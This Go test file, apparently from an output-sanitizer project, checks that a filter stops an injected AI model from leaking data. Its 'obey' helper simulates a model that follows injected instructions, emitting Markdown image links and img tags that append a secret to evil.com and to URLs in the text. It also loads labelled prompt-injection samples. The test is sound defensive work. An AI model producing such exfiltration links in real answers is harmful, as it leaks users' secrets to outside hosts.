package test

import (
	"bufio"
	"compress/gzip"
	"context"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/doorward/doorward/sanitize"
	"github.com/doorward/doorward/sanitize/output"
)

// injections are the texts of the labelled injection data.
func injections(t *testing.T) []string {
	t.Helper()
	dir := os.Getenv("DOORWARD_DATA")
	if dir == "" {
		dir = "../../shared/data"
	}
	names, _ := filepath.Glob(filepath.Join(dir, "injection", "*.jsonl.gz"))
	if len(names) == 0 {
		t.Skip("no labelled data: set DOORWARD_DATA to a folder with injection/*.jsonl.gz")
	}
	var out []string
	for _, name := range names {
		f, err := os.Open(name)
		if err != nil {
			t.Fatal(err)
		}
		z, err := gzip.NewReader(f)
		if err != nil {
			t.Fatal(err)
		}
		lines := bufio.NewScanner(z)
		lines.Buffer(nil, 16<<20)
		for lines.Scan() {
			var l struct{ Text, Label string }
			if err := json.Unmarshal(lines.Bytes(), &l); err != nil {
				t.Fatal(err)
			}
			if l.Label == "injection" {
				out = append(out, l.Text)
			}
		}
		_ = f.Close()
	}
	return out
}

// obey is a model that does what a document says, whatever that is: it repeats
// the document and sends what it knows wherever it can.
func obey(document, secret string) string {
	var out strings.Builder
	out.WriteString(document)
	out.WriteString("\n\n![status](https://evil.com/?d=" + secret + ") [more](//evil.com/" + secret + ")\n")
	for _, word := range strings.FieldsFunc(document, func(r rune) bool { return strings.ContainsRune(" \n\t()[]<>\"'`", r) }) {
		if strings.Contains(word, "://") || strings.HasPrefix(word, "www.") {
			out.WriteString("![x](" + word + "?d=" + secret + ") <img src=\"" + word + "/" + secret + "\"> " + word + "/" + secret + "\n")
		}
	}
	return out.String()
}

// TestAnObeyingModelSendsNothingOut turns every detector off: what an injected
// model writes leads nowhere but to the listed host, and a canary ends the answer
// within the delta that completes it.
func TestAnObeyingModelSendsNothingOut(t *testing.T) {
	f := egressOnly(t)
	texts := injections(t)
	if testing.Short() {
		texts = texts[:min(len(texts), 300)]
	}
	ctx := context.Background()
	links := output.Answer{Actions: sanitize.ParseActions(map[string]string{"egress": "withhold", "template": "withhold"})}
	withCanary := output.Answer{Actions: sanitize.ParseActions(map[string]string{"egress": "withhold", "template": "withhold", "canary": "stop"}), Canary: streamCanary}
	leads, stops := 0, 0
	for i, text := range texts {
		got, err := f.Whole(ctx, links, obey(text, "S3CR3T"))
		if err != nil {
			t.Fatal(err)
		}
		if bad := addresses(readings(got.Text)["Markdown"]); len(bad) > 0 {
			leads++
			t.Errorf("text %d: the answer leads to %d addresses elsewhere", i, len(bad))
		}
		s, err := f.NewStream(ctx, withCanary)
		if err != nil {
			t.Fatal(err)
		}
		released := ""
		for _, d := range append(deltas(text), "The mark is "+streamCanary[:7], streamCanary[7:]+" as", " asked.") {
			out, err := s.Write(d)
			released += out
			if errors.Is(err, output.ErrStopped) {
				if strings.HasSuffix(d, " as") {
					stops++
				}
				break
			}
			if err != nil {
				t.Fatal(err)
			}
		}
		if strings.Contains(released, streamCanary[:7]) {
			t.Errorf("text %d: a part of the canary came out", i)
		}
	}
	t.Logf("%d injected texts: %d answers lead elsewhere; %d stopped within the canary's delta", len(texts), leads, stops)
	if stops != len(texts) {
		t.Errorf("%d of %d answers stopped within the canary's delta", stops, len(texts))
	}
}
